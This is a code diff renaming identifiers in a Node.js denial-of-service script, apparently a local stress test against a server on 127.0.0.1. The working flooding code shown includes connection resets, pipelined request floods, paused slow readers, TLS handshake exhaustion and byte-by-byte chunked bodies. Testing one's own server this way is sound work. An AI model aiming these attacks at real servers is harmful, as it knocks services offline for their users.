@@ -12,7 +12,7 @@ const { values, positionals } = parseArgs({
 });
 
 /** The attacker's source address. */
-const FROM = '127.0.6.6';
+const SOURCE_ADDRESS = '127.0.6.6';
 
 /**
  * Keeps `count` connections open: opens a new one for each closed one.
@@ -21,9 +21,9 @@ const FROM = '127.0.6.6';
  * @param {string} port
  * @param {(socket: import('node:net').Socket) => void} use called with each open connection
  */
-function keep(count, port, use) {
+function keepOpen(count, port, use) {
   const open = () => {
-    const socket = connect({ port: Number(port), host: '127.0.0.1', localAddress: FROM });
+    const socket = connect({ port: Number(port), host: '127.0.0.1', localAddress: SOURCE_ADDRESS });
     socket.on('error', () => {});
     socket.once('connect', () => use(socket));
     socket.once('close', () => setImmediate(open));
@@ -32,16 +32,16 @@ function keep(count, port, use) {
 }
 
 /** Sends the same bytes repeatedly, as long as the socket accepts them. */
-function pour(socket, bytes) {
-  const more = () => {
+function sendForever(socket, bytes) {
+  const sendMore = () => {
     while (!socket.destroyed && socket.write(bytes));
   };
-  socket.on('drain', more);
-  more();
+  socket.on('drain', sendMore);
+  sendMore();
 }
 
-const HEAD = 'Host: x\r\n\r\n';
-const AHEAD = 500;
+const HEAD_END = 'Host: x\r\n\r\n';
+const PIPELINED_REQUESTS = 500;
 const hello = await clientHello();
 
 // Paused sockets do not keep the process alive.
@@ -50,27 +50,27 @@ setInterval(() => {}, 1000);
 const attacks = {
   /** Sends a whole request, a half one or none, and resets the connection. */
   resets() {
-    const kinds = ['', 'POST /join HTTP/1.1\r\nContent-Le', `GET /nothing HTTP/1.1\r\n${HEAD}`];
-    let times = 0;
-    keep(64, values.port, (socket) => {
-      times += 1;
-      socket.write(kinds[times % kinds.length], () => resetSocket(socket));
+    const kinds = ['', 'POST /join HTTP/1.1\r\nContent-Le', `GET /nothing HTTP/1.1\r\n${HEAD_END}`];
+    let connections = 0;
+    keepOpen(64, values.port, (socket) => {
+      connections += 1;
+      socket.write(kinds[connections % kinds.length], () => resetSocket(socket));
     });
   },
 
   /** Sends endless requests that JavaScript handles, and reads the answers. */
   pipelining() {
-    const bytes = Buffer.from(`GET /nothing HTTP/1.1\r\n${HEAD}`.repeat(AHEAD));
-    keep(64, values.port, (socket) => {
+    const bytes = Buffer.from(`GET /nothing HTTP/1.1\r\n${HEAD_END}`.repeat(PIPELINED_REQUESTS));
+    keepOpen(64, values.port, (socket) => {
       socket.on('data', () => {});
-      pour(socket, bytes);
+      sendForever(socket, bytes);
     });
   },
 
   /** Requests the page many times, and reads no answer: the server has to buffer all of them. */
   'slow readers'() {
-    const bytes = Buffer.from(`GET / HTTP/1.1\r\n${HEAD}`.repeat(AHEAD));
-    keep(1000, values.port, (socket) => {
+    const bytes = Buffer.from(`GET / HTTP/1.1\r\n${HEAD_END}`.repeat(PIPELINED_REQUESTS));
+    keepOpen(1000, values.port, (socket) => {
       socket.pause();
       socket.write(bytes);
     });
@@ -78,7 +78,7 @@ const attacks = {
 
   /** Begins TLS handshakes, and resets after the server's certificate, which costs the server CPU. */
   handshakes() {
-    keep(64, values.tls, (socket) => {
+    keepOpen(64, values.tls, (socket) => {
       socket.write(hello);
       socket.once('data', () => resetSocket(socket));
     });
@@ -86,15 +86,15 @@ const attacks = {
 
   /** Sends bodies byte by byte, in chunks. */
   bodies() {
-    keep(1000, values.port, (socket) => {
-      socket.write(`POST /throw/nobody/up HTTP/1.1\r\nTransfer-Encoding: chunked\r\n${HEAD}`);
+    keepOpen(1000, values.port, (socket) => {
+      socket.write(`POST /throw/nobody/up HTTP/1.1\r\nTransfer-Encoding: chunked\r\n${HEAD_END}`);
       socket.on('data', () => {});
-      const drip = () => {
+      const sendByte = () => {
         if (socket.destroyed) return;
         socket.write('1\r\n1\r\n');
-        setTimeout(drip, 20);
+        setTimeout(sendByte, 20);
       };
-      drip();
+      sendByte();
     });
   }
 };
